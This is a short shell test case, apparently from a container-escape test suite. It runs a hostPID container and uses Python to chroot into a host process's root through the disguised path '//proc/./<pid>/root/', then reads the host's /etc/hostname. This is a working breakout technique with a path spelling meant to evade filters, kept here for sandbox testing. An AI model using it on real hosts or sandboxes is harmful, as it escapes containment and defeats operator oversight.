# V51 ESC-005: from a hostPID container, chroot into the root of a host process, spelled //proc/./<pid>/root/
sleep 30 & T=$!
ctr_run simctr-sidecar-v51 ctr-infer --mount --uts --ipc -- python3 -c '
import os, sys
os.chroot("//proc/./" + sys.argv[1] + "/root/"); os.chdir("/")
print("chrooted; host hostname:", open("/etc/hostname").read().strip())' "$T"
kill "$T" 2>/dev/null; wait "$T" 2>/dev/null; true
